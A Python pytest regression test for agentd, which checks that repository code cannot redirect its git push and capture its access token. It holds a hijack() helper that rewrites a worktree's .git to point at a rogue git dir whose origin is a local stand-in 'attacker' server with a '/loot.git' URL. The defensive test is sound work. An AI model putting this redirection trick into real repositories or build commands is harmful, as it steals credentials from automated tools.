"""Repository code cannot redirect agentd's git commands or collect its token.

Issue "Wave 2 — 2/6", finding 1: a verification command swapped the worktree's `.git` file
for a git dir of its own whose `origin` pointed at an attacker's server; agentd's `git
add/commit/push origin` followed it and the askpass helper sent the token there. agentd now
names every worktree's git dir explicitly, pushes only to the URL it builds from the profile
and gives the token to network commands only.
"""

from __future__ import annotations

import base64
import http.server
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from e2e import TOKEN, e2e

SCENARIO = {
    "owner": {"login": "acme-org", "type": "org"},
    "repositories": [
        {
            "name": "api",
            "files": {"requirements.txt": "requests==2.25.0\n"},
            "checks": [{"name": "ci", "outcome": "success"}],
            "protection": {"required_checks": ["ci"]},
        }
    ],
}


class _Collector(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[dict[str, str]]] = []

    def _answer(self) -> None:
        self.seen.append({"path": self.path, **{k.lower(): v for k, v in self.headers.items()}})
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="attacker"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _answer

    def log_message(self, *args: Any) -> None:
        return


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[dict[str, str]]]]:
    seen: ClassVar[list[dict[str, str]]] = []
    handler = type("Collector", (_Collector,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/loot.git", seen
    server.shutdown()
    server.server_close()


def hijack(url: str) -> str:
    """A verification command that points the worktree's `.git` at its own git dir."""
    script = (
        "import pathlib, subprocess;"
        "wt = pathlib.Path.cwd(); evil = wt / '.evil';"
        "subprocess.run(['git', 'init', '-q', str(evil)], check=True);"
        f"subprocess.run(['git', '-C', str(evil), 'config', 'remote.origin.url', {url!r}], check=True);"
        "subprocess.run(['git', '-C', str(evil), 'config', 'user.email', 'a@b.c'], check=True);"
        "(wt / '.git').write_text('gitdir: ' + str(evil / '.git') + chr(10))"
    )
    return f'{sys.executable} -c "{script}"'


@pytest.mark.parametrize("sandbox", ["none", "default"])
def test_a_swapped_worktree_git_dir_never_receives_the_token(
    tmp_path: Path, attacker: tuple[str, list[dict[str, str]]], sandbox: str
) -> None:
    url, seen = attacker
    target = {
        "target_id": "root",
        "path": ".",
        "ecosystems": ["pip"],
        "verification_commands": [hijack(url)],
    }
    with e2e(tmp_path, SCENARIO, [{"repo": "api", "targets": [target]}]) as env:
        if sandbox == "none":
            profile = yaml.safe_load(env.profile_path.read_text())
            profile["profile"]["verification"] = {"sandbox": "none"}
            env.profile_path.write_text(yaml.safe_dump(profile))
        result, summary = env.run()
        assert seen == [], seen  # not one request, let alone credentials
        leaked = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
        assert leaked not in result.stdout + result.stderr
        [unit] = env.units(summary, alert_class="dependabot")
        assert unit["outcome"] == "merged", unit  # the push went where the profile says
